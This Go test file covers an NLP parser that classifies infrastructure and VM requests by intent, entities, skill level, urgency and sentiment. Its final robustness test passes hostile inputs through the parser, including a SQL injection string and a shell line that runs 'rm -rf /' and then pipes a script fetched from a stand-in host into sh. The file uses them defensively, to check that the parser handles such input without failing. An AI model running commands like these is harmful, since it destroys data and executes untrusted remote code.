package nlp

import (
	"strings"
	"testing"
)

func TestClassify_IntentTaxonomy(t *testing.T) {
	parser := NewParser()

	testCases := []struct {
		name           string
		text           string
		expectedIntent IntentType
	}{
		{
			name:           "create vm request",
			text:           "Create a VM with 4 cores and 8GB RAM",
			expectedIntent: IntentCreateVM,
		},
		{
			name:           "deploy infrastructure request",
			text:           "Deploy the infrastructure for our staging environment",
			expectedIntent: IntentDeployInfrastructure,
		},
		{
			name:           "generate iac request",
			text:           "Generate a Terraform module for three web servers",
			expectedIntent: IntentGenerateIaC,
		},
		{
			name:           "security review request",
			text:           "Run a security audit on my Proxmox host",
			expectedIntent: IntentSecurityReview,
		},
		{
			name:           "troubleshoot request",
			text:           "My VM won't boot and shows a disk error",
			expectedIntent: IntentTroubleshoot,
		},
		{
			name:           "optimize request",
			text:           "Optimize the cluster, CPU usage is too high",
			expectedIntent: IntentOptimize,
		},
		{
			name:           "migrate request",
			text:           "Migrate VMs from VMware to Proxmox",
			expectedIntent: IntentMigrate,
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result := parser.Classify(tc.text)

			if result.Intent != tc.expectedIntent {
				t.Errorf("Expected intent %s, got %s (breakdown: %+v)",
					tc.expectedIntent, result.Intent, result.Breakdown)
			}
			if result.Confidence <= 0 || result.Confidence > MaxConfidence {
				t.Errorf("Confidence %f out of range (0, 1]", result.Confidence)
			}
		})
	}
}

func TestClassify_FallbackToGeneralQuestion(t *testing.T) {
	parser := NewParser()

	inputs := []string{
		"",
		"hello there",
		"zzzzzz qqqqq xxxxx",
		strings.Repeat("\x00", 100),
	}

	for _, input := range inputs {
		result := parser.Classify(input)
		if result.Intent != IntentGeneralQuestion {
			t.Errorf("Expected general_question fallback for %q, got %s", input, result.Intent)
		}
		if result.Confidence != FallbackConfidence {
			t.Errorf("Expected fallback confidence %f, got %f", FallbackConfidence, result.Confidence)
		}
	}
}

func TestClassify_BreakdownNormalization(t *testing.T) {
	parser := NewParser()
	result := parser.Classify("Create a VM with 4 cores and 8GB RAM")

	score, exists := result.Breakdown[string(IntentCreateVM)]
	if !exists {
		t.Fatal("Expected create_vm entry in breakdown")
	}
	if score.PatternScore <= 0 {
		t.Errorf("Expected positive pattern score, got %f", score.PatternScore)
	}
	if score.TotalScore <= 0 {
		t.Errorf("Expected positive total score, got %f", score.TotalScore)
	}
}

func TestParse_EndToEndCreateVM(t *testing.T) {
	parser := NewParser()
	parsed := parser.Parse("Create a VM with 4 cores and 8GB RAM for production")

	if parsed.Intent != IntentCreateVM {
		t.Fatalf("Expected create_vm, got %s", parsed.Intent)
	}

	if got := parsed.Entities[EntityCPUCores]; len(got) == 0 || got[0] != "4" {
		t.Errorf("Expected cpu_cores entity 4, got %v", got)
	}
	if got := parsed.Entities[EntityMemory]; len(got) == 0 || got[0] != "8GB" {
		t.Errorf("Expected memory entity 8GB, got %v", got)
	}

	if env, _ := parsed.Parameters["environment"].(string); env != "production" {
		t.Errorf("Expected environment=production, got %v", parsed.Parameters["environment"])
	}
	if cores, _ := parsed.Parameters["cpu_cores"].(int); cores != 4 {
		t.Errorf("Expected cpu_cores=4, got %v", parsed.Parameters["cpu_cores"])
	}
	memory, ok := parsed.Parameters["memory"].(SizedValue)
	if !ok || memory.Value != 8 || memory.Unit != "GB" {
		t.Errorf("Expected memory {8 GB}, got %v", parsed.Parameters["memory"])
	}

	// Storage is the only missing required parameter.
	if !parsed.RequiresClarification {
		t.Error("Expected clarification to be required with storage missing")
	}
	if len(parsed.ClarificationQuestions) != 1 {
		t.Fatalf("Expected exactly 1 clarification question, got %d: %v",
			len(parsed.ClarificationQuestions), parsed.ClarificationQuestions)
	}
	if !strings.Contains(strings.ToLower(parsed.ClarificationQuestions[0]), "storage") {
		t.Errorf("Expected storage clarification, got %q", parsed.ClarificationQuestions[0])
	}
}

func TestParse_NoClarificationWhenComplete(t *testing.T) {
	parser := NewParser()
	parsed := parser.Parse("Create a VM with 4 cores, 8GB RAM and 100GB of disk")

	if parsed.RequiresClarification {
		t.Errorf("Expected no clarification, got questions: %v", parsed.ClarificationQuestions)
	}
}

func TestParse_DerivedSignals(t *testing.T) {
	parser := NewParser()

	testCases := []struct {
		name  string
		text  string
		check func(t *testing.T, parsed ParsedIntent)
	}{
		{
			name: "expert skill level",
			text: "Configure PCI passthrough with IOMMU and CPU pinning for the NUMA nodes",
			check: func(t *testing.T, parsed ParsedIntent) {
				if parsed.SkillLevel != SkillExpert {
					t.Errorf("Expected expert, got %s", parsed.SkillLevel)
				}
			},
		},
		{
			name: "beginner skill level",
			text: "I'm new to virtualization, how do I get started with my first VM?",
			check: func(t *testing.T, parsed ParsedIntent) {
				if parsed.SkillLevel != SkillBeginner {
					t.Errorf("Expected beginner, got %s", parsed.SkillLevel)
				}
			},
		},
		{
			name: "default intermediate",
			text: "Resize the disk on the database VM",
			check: func(t *testing.T, parsed ParsedIntent) {
				if parsed.SkillLevel != SkillIntermediate {
					t.Errorf("Expected intermediate, got %s", parsed.SkillLevel)
				}
			},
		},
		{
			name: "high urgency",
			text: "Production down, need this fixed immediately",
			check: func(t *testing.T, parsed ParsedIntent) {
				if parsed.Urgency != UrgencyHigh {
					t.Errorf("Expected high urgency, got %s", parsed.Urgency)
				}
			},
		},
		{
			name: "infrastructure type declaration order tie-break",
			text: "Run a docker container inside a vm",
			check: func(t *testing.T, parsed ParsedIntent) {
				// Both virtualization and container keywords present;
				// virtualization is declared first and wins.
				if parsed.InfrastructureType != InfraVirtualization {
					t.Errorf("Expected virtualization, got %s", parsed.InfrastructureType)
				}
			},
		},
		{
			name: "negative sentiment",
			text: "This broken cluster failed again, terrible",
			check: func(t *testing.T, parsed ParsedIntent) {
				if parsed.Sentiment != SentimentNegative {
					t.Errorf("Expected negative, got %s", parsed.Sentiment)
				}
			},
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			tc.check(t, parser.Parse(tc.text))
		})
	}
}

func TestParse_Totality(t *testing.T) {
	parser := NewParser()

	inputs := []string{
		"",
		strings.Repeat("x", 100000),
		"\xff\xfe invalid utf8 \x80",
		"'; DROP TABLE users; --",
		"$(rm -rf /) && curl evil.sh | sh",
	}

	for _, input := range inputs {
		parsed := parser.Parse(input)
		if parsed.Intent == "" {
			t.Errorf("Parse returned empty intent for input of length %d", len(input))
		}
		if parsed.Parameters == nil || parsed.Entities == nil {
			t.Error("Parse returned nil maps")
		}
		if parsed.ClarificationQuestions == nil || parsed.TechnicalTerms == nil {
			t.Error("Parse returned nil slices")
		}
	}
}
